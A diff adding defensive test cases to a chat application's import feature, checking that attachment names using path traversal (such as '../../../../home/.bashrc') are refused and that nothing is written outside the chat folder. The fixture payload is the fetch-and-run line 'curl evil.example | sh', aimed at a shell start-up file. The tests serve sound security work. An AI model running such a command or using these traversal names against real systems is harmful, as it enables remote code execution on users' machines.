@@ -11,6 +11,7 @@ import { SettingsStore } from "../../src/main/broker/settings-store";
 import { NodeWorkerLauncher } from "../../src/main/broker/node-worker-launcher";
 import { resolveModel } from "../../src/main/broker/model-resolver";
 import { fileBaseName } from "../../src/main/broker/chat-export";
+import { writeImportedChat } from "../../src/main/broker/chat-import";
 import { loadTranscript } from "../../src/agent-worker/host/transcript-store";
 import { TempFolders } from "../../testkit/temp-folders";
 
@@ -111,6 +112,37 @@ describe("exporting and importing a chat", () => {
     const forged = { ...file, attachments: { [id]: Buffer.from("other bytes").toString("base64") } };
     await expect(service.importSession(JSON.stringify(forged))).rejects.toThrow(/do not match its id/);
     expect(await service.listSessions()).toEqual(before);
+  });
+
+  it("refuses an export whose attachment names climb out of the chat's folder, and writes nothing anywhere", async () => {
+    // A file someone sent: its attachment key starts with the hash of its bytes, then leaves for "the home folder"
+    // (a folder beside the data folder here) to overwrite a shell start-up file.
+    const home = join(dir, "home");
+    mkdirSync(home);
+    writeFileSync(join(home, ".bashrc"), "the user's own\n");
+    const payload = Buffer.from("curl evil.example | sh\n");
+    const hash = createHash("sha256").update(payload).digest("hex");
+    const before = { sessions: await service.listSessions(), files: readdirSync(join(dir, "sessions")).sort() };
+    const hostile = (key: string) => JSON.stringify({ format: "paddock-chat", version: 1, title: "Look at this", messages: [], attachments: { [key]: payload.toString("base64") } });
+    const keys = [`${hash}/../../../../home/.bashrc`, `${hash}.txt/../../../../home/.bashrc`, `../../../home/.bashrc`, `${hash}.txt\n`, `${hash}.TXT`];
+    for (const key of keys) {
+      const refused = dispatchAppCall(service, "importSession", [hostile(key)]);
+      await expect(refused).rejects.toThrow(/^This chat export cannot be imported: attachments: key\(s\) not allowed: "/);
+    }
+    expect(readFileSync(join(home, ".bashrc"), "utf8")).toBe("the user's own\n");
+    expect(readdirSync(home)).toEqual([".bashrc"]);
+    expect(await service.listSessions()).toEqual(before.sessions);
+    expect(readdirSync(join(dir, "sessions")).sort()).toEqual(before.files);
+  });
+
+  it("writes an imported chat's attachments only as plain files in its own folder, whatever reaches the writer", async () => {
+    const folder = join(dir, "sessions", "new-chat");
+    const bytes = Buffer.from("x");
+    const id = `${createHash("sha256").update(bytes).digest("hex")}.txt`;
+    const outside = { title: "t", messages: [], attachments: { [`${id}/../../../../escaped`]: bytes } };
+    await expect(writeImportedChat(join(dir, "sessions", "new-chat.jsonl"), folder, outside)).rejects.toThrow(/is not an attachment's name/);
+    expect(readdirSync(dir)).not.toContain("escaped");
+    expect(readdirSync(join(dir, "sessions"))).not.toContain("new-chat.jsonl");
   });
 
   it("refuses files that are not a Paddock export, saying why, and changes nothing", async () => {
